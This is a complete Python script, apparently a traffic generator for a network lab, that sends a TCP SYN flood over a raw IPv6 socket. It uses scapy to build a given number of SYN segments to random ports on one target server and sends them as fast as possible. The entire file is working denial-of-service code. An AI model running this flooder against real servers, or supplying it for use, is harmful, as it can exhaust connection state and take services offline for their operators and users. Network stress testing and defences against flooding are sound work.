"""SYN flood from one subscriber: COUNT SYNs from distinct source ports to
random destination ports of one server (source ports from FIRST_SPORT, 20000 by default), through the kernel's route (a raw
IPv6 socket bound to the flooder's address), as fast as it takes them.
Prints how many it sent."""
import random
import socket
import sys

from scapy.all import IPv6, TCP  # python3-scapy: the segment and its checksum

src, dst, count = sys.argv[1], sys.argv[2], int(sys.argv[3])
first_sport = int(sys.argv[4]) if len(sys.argv) > 4 else 20000
rng = random.Random(7)
s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_TCP)
s.bind((src, 0))
sent = 0
for i in range(count):
    segment = IPv6(src=src, dst=dst) / TCP(sport=first_sport + i, dport=rng.randrange(1024, 65535), flags="S",
                                          seq=rng.getrandbits(32))
    s.sendto(bytes(segment[TCP]), (dst, 0))   # bytes() of the layer inside IPv6: checksum over its pseudo-header
    sent += 1
print(f"sent {sent} SYNs from [{src}] to [{dst}]")
